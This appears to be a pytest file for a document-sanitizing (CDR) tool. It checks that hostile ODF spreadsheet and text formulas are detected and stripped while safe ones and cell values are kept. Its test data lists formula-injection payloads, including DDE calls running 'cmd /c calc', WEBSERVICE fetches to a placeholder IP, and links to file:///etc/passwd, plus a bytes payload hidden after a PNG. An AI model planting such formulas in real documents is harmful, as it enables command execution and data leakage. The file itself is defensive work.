"""ODF formulas (cells, validations, names, conditional formats, text fields) and form pictures."""
from __future__ import annotations

import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from lxml import etree

from cdr.formats.odf import odf_formula_threat
from cdr.pipeline import inspect as inspect_file
from cdr.pipeline import process
from samples.legacy_samples import ODS, ODT, _odf

T = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
CALCEXT = "urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0"
CX = f'xmlns:calcext="{CALCEXT}"'

DANGEROUS = [
    'of:=WEBSERVICE("http://203.0.113.5/")',
    'of:=COM.MICROSOFT.WEBSERVICE("http://203.0.113.5/")',
    'of:=DDE("cmd";"/c calc";"A1")',
    'of:=HYPERLINK("file:///etc/passwd")',
    "of:=['http://203.0.113.5/ext.ods'#$Sheet1.A1]",
    "of:=['file:///etc/passwd'#$Sheet1.A1]",
    "oooc:=['file:///C:/x.ods'#$Sheet1.A1]*2",
    "of:=[$'file:///C:/x.ods'#$Sheet1.$A$1]",
    'oooc:=DDE("soffice";"file:///tmp/a.ods";"a1")',
    "msoxl:=cmd|'/c calc'!A0",
    'of:=INDIRECT("\'file:///etc/x.ods\'#$Sheet1.A1")',
    'is-true-formula(WEBSERVICE("http://203.0.113.5/"))',
    # Not condition keywords: the function name after "cell-content-" is judged like any other.
    'of:=cell-content-WEBSERVICE("http://203.0.113.5/")', 'of:=cell-content-DDE("cmd";"/c calc";"A1")',
    'of:=CELL-CONTENT-IS-BETWEEN(WEBSERVICE("http://203.0.113.5/");1)',
    # HYPERLINK whose target is computed from cells: the address it opens is not in the file.
    'of:=HYPERLINK("https://203.0.113.5/?id="&[.B1];"開く")', 'of:=HYPERLINK(CONCATENATE("https://";[.B1]))',
    'of:=HYPERLINK([.B1];"開く")', 'of:=HYPERLINK(TEXTJOIN("";1;"https://x.jp/";[.B1]))',
    'of:=HYPERLINK(COM.MICROSOFT.CONCAT("https://";[$Sheet2.A1]))',
]
SAFE = ["of:=SUM([.A1:.A3])", "of:=[.A1]*2", "of:=['集計 2'.B2]+[$Sheet1.$A$1]", 'of:=HYPERLINK("https://x.jp/")',
        'of:=IF([.A1]>0;"a|b#c";"file:")', "of:=INDIRECT(ADDRESS(1;2))", "ooow:<A1>+<A2>", "of:=ISERROR(#N/A)",
        # Conditional-format conditions: ODF wrappers, not the FORMULA() function.
        'is-true-formula([.$E2]="超過")', "cell-content-is-between(1;5)", "cell-content()>3",
        'of:=HYPERLINK("https://www.city.example.lg.jp/";"市")', 'of:=HYPERLINK("https://x.jp/" & "a/";[.B1])',
        'of:="HYPERLINK("&[.B1]&")"']


@pytest.mark.parametrize("f", DANGEROUS)
def test_dangerous_formulas_are_classified(f):
    assert odf_formula_threat(f), f


@pytest.mark.parametrize("f", SAFE)
def test_safe_formulas_are_not(f):
    assert odf_formula_threat(f) is None, f


def _cell(formula: str, value: str) -> str:
    return (f'<table:table-cell table:formula="{formula}" office:value-type="float" office:value="{value}" '
            f'calcext:value-type="float" {CX}><text:p>{value}</text:p></table:table-cell>')


def _esc(s: str) -> str:
    return s.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")


def _ods(path: Path) -> None:
    rows = "".join(f"<table:table-row>{_cell(_esc(f), str(100 + i))}"
                   f'<table:table-cell office:value-type="string" office:string-value="x{i}"><text:p>x{i}</text:p>'
                   "</table:table-cell></table:table-row>" for i, f in enumerate(DANGEROUS + SAFE[:3]))
    validations = (
        '<table:content-validations><table:content-validation table:name="v1" '
        'table:condition="of:is-true-formula(WEBSERVICE(&quot;http://203.0.113.5/&quot;))"/>'
        '<table:content-validation table:name="v2" table:condition="of:cell-content-is-whole-number() and '
        'cell-content-is-between(1;10)"><table:error-macro table:execute="true" table:name="Tools.Evil"/>'
        "</table:content-validation></table:content-validations>")
    vcells = ('<table:table-row><table:table-cell table:content-validation-name="v1" office:value-type="float" '
              'office:value="1"><text:p>1</text:p></table:table-cell><table:table-cell '
              'table:content-validation-name="v2" office:value-type="float" office:value="2"><text:p>2</text:p>'
              "</table:table-cell></table:table-row>")
    cond = (f'<calcext:conditional-formats {CX}><calcext:conditional-format calcext:target-range-address='
            '"Sheet1.A1:Sheet1.A3"><calcext:condition calcext:apply-style-name="Good" calcext:value='
            '"formula-is(WEBSERVICE(&quot;http://203.0.113.5/&quot;))" calcext:base-cell-address="Sheet1.A1"/>'
            '<calcext:condition calcext:apply-style-name="Good" calcext:value="&gt;5" '
            'calcext:base-cell-address="Sheet1.A1"/></calcext:conditional-format></calcext:conditional-formats>')
    names = ('<table:named-expressions><table:named-range table:name="ext" table:base-cell-address="$Sheet1.$A$1" '
             "table:cell-range-address=\"'file:///etc/x.ods'#$Sheet1.$A$1\"/>"
             '<table:named-expression table:name="web" table:base-cell-address="$Sheet1.$A$1" '
             'table:expression="of:=WEBSERVICE(&quot;http://203.0.113.5/&quot;)"/>'
             '<table:named-range table:name="ok" table:base-cell-address="$Sheet1.$A$1" '
             'table:cell-range-address="$Sheet1.$A$1:.$A$3"/></table:named-expressions>')
    _odf(path, ODS, validations + f'<table:table table:name="Sheet1"><table:table-column '
         f'table:number-columns-repeated="2"/>{rows}{vcells}{cond}</table:table>' + names)


@pytest.fixture(scope="module")
def ods_result(tmp_path_factory, default_policy):
    d = tmp_path_factory.mktemp("ods")
    _ods(d / "f.ods")
    res = process(d / "f.ods", "f.ods", d / "out", default_policy)
    return d, res


def test_ods_dangerous_formulas_removed_values_kept(ods_result, default_policy):
    d, res = ods_result
    assert res.verdict == "sanitized", res.reason_en
    ids = [t.id for t in res.threats]
    # every dangerous cell, a validation, a conditional format, two names; a validation's error macro
    assert ids.count("odf.formula") == len(DANGEROUS) + 4 and "odf.macro" in ids
    with zipfile.ZipFile(res.output) as z:
        root = etree.fromstring(z.read("content.xml"))
    cells = list(root.iter(f"{{{T}}}table-cell"))
    formulas = [c.get(f"{{{T}}}formula") for c in cells if c.get(f"{{{T}}}formula")]
    assert formulas == SAFE[:3]  # safe formulas kept verbatim
    off = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
    values = [c.get(f"{off}value") for c in cells[0:2 * len(DANGEROUS):2]]
    assert values == [str(100 + i) for i in range(len(DANGEROUS))]
    assert all("".join(c.itertext()) == v for c, v in zip(cells[0:2 * len(DANGEROUS):2], values, strict=True))
    assert [c.get(f"{off}string-value") for c in cells[1:2 * len(DANGEROUS):2]] == \
        [f"x{i}" for i in range(len(DANGEROUS))]
    flat = etree.tostring(root).decode()
    for gone in ("WEBSERVICE", "DDE(", "file:///", "203.0.113.5", "Tools.Evil", 'validation-name="v1"'):
        assert gone not in flat, gone
    for kept in ('table:name="v2"', 'validation-name="v2"', 'calcext:value="&gt;5"', 'table:name="ok"'):
        assert kept in flat, kept
    assert inspect_file(res.output, "f.ods", default_policy)["threats"] == []


def test_ods_inspect_reports_the_same(ods_result, default_policy):
    d, res = ods_result
    found = inspect_file(d / "f.ods", "f.ods", default_policy)["threats"]
    assert sorted(t["id"] for t in found) == sorted(t.id for t in res.threats)


def _png() -> bytes:
    import io

    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (4, 4), (200, 0, 0)).save(buf, "PNG")
    return buf.getvalue()


def test_odt_text_fields_and_form_picture(tmp_path, default_policy):
    body = ('<office:forms><form:form form:name="f"><form:button form:name="b" form:id="b1" '
            'form:image-data="http://203.0.113.5/b.png"/><form:button form:name="c" form:id="c1" '
            'form:image-data="Pictures/seal.png"/></form:form></office:forms>'
            '<text:p>合計 <text:expression text:formula="of:=WEBSERVICE(&quot;http://203.0.113.5/&quot;)" '
            'office:value-type="float" office:value="3">3</text:expression> と '
            '<text:expression text:formula="ooow:2+2" office:value-type="float" office:value="4">4</text:expression>'
            '</text:p><table:table table:name="表"><table:table-row><table:table-cell '
            'table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A1&quot;)" office:value-type="float" '
            'office:value="7"><text:p>7</text:p></table:table-cell></table:table-row></table:table>')
    src = tmp_path / "f.odt"
    _odf(src, ODT, body, {"Pictures/seal.png": _png()})
    res = process(src, "f.odt", tmp_path / "out", default_policy)
    assert res.verdict == "sanitized", res.reason_en
    assert sorted(t.id for t in res.threats if t.id != "odf.metadata") == ["odf.external_link", "odf.formula",
                                                                          "odf.formula"]
    with zipfile.ZipFile(res.output) as z:
        flat = z.read("content.xml").decode()
    assert "203.0.113.5" not in flat and "DDE" not in flat
    assert 'form:image-data="Pictures/seal.png"' in flat and 'text:formula="ooow:2+2"' in flat
    assert 'office:value="3">3<' in flat and "<text:p>7</text:p>" in flat
    assert inspect_file(res.output, "f.odt", default_policy)["threats"] == []


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice not installed")
def test_sanitized_ods_still_opens_in_libreoffice(ods_result, tmp_path):
    _d, res = ods_result
    prof = tmp_path / "profile"
    r = subprocess.run(["soffice", f"-env:UserInstallation=file://{prof}", "--headless", "--convert-to", "csv",
                        "--outdir", str(tmp_path), res.output], capture_output=True, timeout=120)
    csv = tmp_path / (Path(res.output).stem + ".csv")
    assert r.returncode == 0 and csv.exists(), r.stderr
    lines = csv.read_text("utf-8").splitlines()
    assert lines[0].startswith("100,x0") and lines[len(DANGEROUS) - 1].startswith(f"{99 + len(DANGEROUS)},")


def test_chart_object_keeps_its_link_to_the_containing_sheet(tmp_path, default_policy):
    """chart:chart xlink:href=".." in an embedded chart object names the document that holds it (its
    data ranges): kept; the same link in the main document would leave the file and is removed."""
    chart_ns = "urn:oasis:names:tc:opendocument:xmlns:chart:1.0"
    obj = (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content '
           f'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:chart="{chart_ns}" '
           f'xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:chart>'
           f'<chart:chart xlink:href=".." xlink:type="simple" chart:class="chart:bar"/>'
           f"</office:chart></office:body></office:document-content>").encode()
    body = ('<table:table table:name="集計"><table:table-row><table:table-cell office:value-type="float" '
            'office:value="3"><text:p>3</text:p></table:table-cell></table:table-row></table:table>'
            '<draw:frame><draw:object xlink:href="./Object 1" xlink:type="simple"/></draw:frame>')
    src = tmp_path / "chart.ods"
    _odf(src, ODS, body, extra={"Object 1/content.xml": obj},
         manifest_extra={"Object 1/": "application/vnd.oasis.opendocument.chart"})
    r = process(src, src.name, tmp_path / "o", default_policy)
    assert "odf.external_link" not in {t.id for t in r.threats}, r.threats
    with zipfile.ZipFile(r.output) as z:
        assert b'xlink:href=".."' in z.read("Object 1/content.xml")


def test_presentation_video_inside_the_file_is_kept(tmp_path, default_policy):
    """A video in Media/ played by LibreOffice's own player stays (as PPTX media do); a player pointed
    at an address, or any other plugin, is removed."""
    from samples.legacy_samples import ODP

    mp4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 64
    plugin = ('<draw:frame svg:width="10cm" svg:height="6cm"><draw:plugin xlink:href="{href}" xlink:type="simple"'
              ' draw:mime-type="application/vnd.sun.star.media"/></draw:frame>')
    body = ('<draw:page draw:name="p1">' + plugin.format(href="Media/clip.mp4")
            + plugin.format(href="http://203.0.113.5/clip.mp4") + "</draw:page>")
    src = tmp_path / "video.odp"
    _odf(src, ODP, body, extra={"Media/clip.mp4": mp4}, manifest_extra={"Media/clip.mp4": "video/mp4"})
    r = process(src, src.name, tmp_path / "o", default_policy)
    assert [t.detail for t in r.threats if t.id == "odf.object"] == ["http://203.0.113.5/clip.mp4"], r.threats
    with zipfile.ZipFile(r.output) as z:
        content = z.read("content.xml")
        assert z.read("Media/clip.mp4") == mp4 and b'xlink:href="Media/clip.mp4"' in content
        assert b"203.0.113.5" not in content


def test_odf_pictures_written_anew(tmp_path, default_policy):
    """A picture in an ODF package is rebuilt by the image family, as in OOXML: nothing after the image data,
    no text chunk of the sender; the same pixels."""
    import io

    from PIL import Image, PngImagePlugin

    from samples.legacy_samples import _ODT_TEXT, ODT, _odf

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "送信者のメモ")
    buf = io.BytesIO()
    Image.new("RGB", (24, 16), (200, 30, 30)).save(buf, "PNG", pnginfo=info)
    payload = b"MZ\x90\x00 hidden after the picture"
    src = tmp_path / "pic.odt"
    _odf(src, ODT, _ODT_TEXT, {"Pictures/seal.png": buf.getvalue() + payload})
    res = process(src, src.name, tmp_path / "out", default_policy)
    assert res.verdict == "clean", (res.reason, res.threats)
    with zipfile.ZipFile(res.output) as z:
        new = z.read("Pictures/seal.png")
    assert payload not in new and b"Comment" not in new
    with Image.open(io.BytesIO(new)) as a, Image.open(io.BytesIO(buf.getvalue())) as b:
        assert a.format == "PNG" and a.tobytes() == b.tobytes()
